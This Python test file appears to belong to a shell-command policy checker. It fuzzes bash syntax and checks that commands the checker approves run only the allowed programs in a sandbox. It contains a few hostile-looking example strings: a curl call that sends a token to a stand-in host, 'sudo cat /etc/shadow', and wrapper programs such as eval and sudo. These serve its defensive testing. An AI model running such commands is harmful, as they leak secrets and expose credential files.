"""param_shell against a real shell: what a line runs is compared with what was said about it."""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

pytest.importorskip("tree_sitter_bash")

from aegis_core.policy.arguments import ShellCondition, ShellSpec
from aegis_core.policy.reading import read

if TYPE_CHECKING:
    from pathlib import Path

BASH = shutil.which("bash")


def condition(*programs: str) -> ShellCondition:
    return ShellCondition(read(ShellSpec, {"programs": list(programs)}))


class Box:
    """A folder with programs that note that they ran, and a shell that finds no others."""

    def __init__(self, root: Path) -> None:
        self.log = root / "log"
        self.here = root / "here"
        self.programs = root / "bin"
        self.here.mkdir()
        self.programs.mkdir()
        for name in ("aa", "bb", "zz", "env", "xargs", "find"):
            program = self.programs / name
            program.write_text(f"#!{BASH}\necho {name} >> {self.log}\n")
            program.chmod(0o755)

    def run(self, line: str) -> set[str]:
        """What the line runs, and the files it makes."""
        self.log.write_text("")
        subprocess.run(
            [BASH or "bash", "-c", f"{line}\nwait"],
            cwd=self.here,
            env={"PATH": str(self.programs)},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=10,
            check=False,
        )
        files = list(self.here.iterdir())
        for file in files:
            file.unlink()
        return {*self.log.read_text().split(), *(file.name for file in files)}


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Box:
    if BASH is None or os.name == "nt":
        pytest.skip("there is no bash")
    return Box(tmp_path_factory.mktemp("box"))


PIECES = st.sampled_from(
    [
        *(
            "aa",
            "bb",
            "zz",
            "aa",
            "bb",
            "zz",
            "-x",
            "'x y'",
            '"x y"',
            "z'z'",
            '"zz"',
            'z"z',
            "|",
            "||",
            "&&",
            "&",
            ";",
            "\n",
        ),
        *(
            "(",
            ")",
            "\t",
            "$(zz)",
            "`zz`",
            "$x",
            "\\",
            "\\\n",
            ">f",
            "<f",
            "2>&1",
            "<<<zz",
            "<(zz)",
            "{",
            "}",
            "{zz,a}",
            "!",
        ),
        *(
            "#",
            "'",
            '"',
            "=",
            "x=1",
            "PATH=/",
            "~",
            "*",
            "?",
            "[z]z",
            "if",
            "then",
            "fi",
            "for",
            "in",
            "do",
            "done",
            "while",
        ),
        *(
            "case",
            "esac",
            "[[",
            "]]",
            "[",
            "]",
            "time",
            "coproc",
            "eval",
            "command",
            "env",
            "xargs",
            "find",
            "-exec",
            "f()",
        ),
        *(
            "function",
            "alias",
            "|&",
            ";;",
            "$'zz'",
            "%",
            "^",
            "./",
            "é",
            "\u00a0",
            "\r",
            "printf",
            "-v",
            "echo",
            "cd",
            "true",
        ),
    ]
)
LINES = st.lists(PIECES, min_size=1, max_size=6).flatmap(
    lambda words: st.sampled_from([" ".join(words), "".join(words)])
)


@settings(max_examples=250, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(LINES)
@example("aa;zz")
@example("aa $(zz)")
@example("aa <(zz)")
@example("aa \\\n; zz")
def test_a_real_shell_runs_only_what_was_allowed(box: Box, line: str) -> None:
    if condition("aa", "bb").judge(line) is True:
        assert box.run(line) <= {"aa", "bb"}


@settings(max_examples=250, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(LINES)
@example("aa; zz")
@example("f() (zz); f")
@example("aa | z'z'")
def test_a_real_shell_never_runs_what_was_said_not_to_be_there(box: Box, line: str) -> None:
    if condition("zz").judge(line) is False:
        assert "zz" not in box.run(line)


def test_a_path_is_allowed_by_listing_it() -> None:
    test = condition("/usr/bin/git")
    assert test.judge("/usr/bin/git status") is True
    assert test.judge("git status") is None
    assert test.judge("/usr/local/bin/git status") is None


def test_a_wrapper_is_undecided_even_when_listed() -> None:
    for wrapper in ("env", "xargs", "sudo", "bash", "eval", "nohup", "/usr/bin/env", "then"):
        assert condition(wrapper, "ls").judge(f"{wrapper} ls") is None


def test_an_interpreter_is_true_if_listed_and_undecided_if_not() -> None:
    assert condition("python3").judge("python3 x.py") is True
    assert condition("ls").judge("python3 x.py") is None
    assert condition("ls").judge("python3.12 x.py") is None
    assert condition("ls").judge("pythonista") is False


def test_options_by_which_a_listed_program_runs_another_are_undecided() -> None:
    assert condition("find").judge("find . -name x") is True
    assert condition("find").judge("find . -exec x +") is None
    assert condition("find").judge("""find . -e"xe"c x +""") is None
    assert condition("printf").judge("printf -v PATH x") is None
    assert condition("find", "ls").judge("ls -exec") is True


def test_more_commands_than_the_parser_bears_are_undecided() -> None:
    assert condition("a").judge("|".join(["a"] * 64)) is True
    assert condition("a").judge("|".join(["a"] * 65)) is None


def test_one_condition_may_be_asked_by_many_threads_at_once() -> None:
    test = condition("git", "ls")
    lines = {"git status | ls": True, "rm x": False, "git x; rm y": None, "ls $(x)": None, "é": None}
    wrong: list[Any] = []

    def ask() -> None:
        wrong.extend(
            (line, truth) for _ in range(200) for line, truth in lines.items() if test.judge(line) is not truth
        )

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []


def test_why_names_the_program_and_not_its_arguments() -> None:
    assert condition("ls").why("curl https://x.example/?token=secret") == "no program is listed (curl)"
    assert condition("ls").why("sudo cat /etc/shadow") == "a program runs whatever its arguments say (sudo)"
    assert (
        condition("ls").why("/bin/ls x")
        == "a program has the name of a listed one, but another path or spelling (/bin/ls)"
    )


def test_a_line_of_bare_words_is_read_as_both_grammars_read_it() -> None:
    from aegis_core.policy.arguments.shell_line import LineReader

    reader = LineReader()
    listing = subprocess.run(
        [BASH or "bash", "-c", "compgen -k; compgen -b"], capture_output=True, text=True, check=True
    )
    words = [*listing.stdout.split(), "git", "a.b", "a-b", "typeset", "let", "test", "then", "x+", "a/b", "e1"]
    for word in words:
        for rest in ("", " status", " -la x=1", " a in b", " 2", " a:b,c@d +e", " do done", " fi", " --x=--y 1.2"):
            line = word + rest
            assert reader.read(line) == reader.read_twice(line), line


@settings(max_examples=300, deadline=None)
@given(st.text("abz+-=./@,: 0Z_~#!", max_size=14))
def test_bare_or_not_a_line_is_read_alike(line: str) -> None:
    from aegis_core.policy.arguments.shell_line import LineReader

    reader = LineReader()
    assert reader.read(line) == reader.read_twice(line)
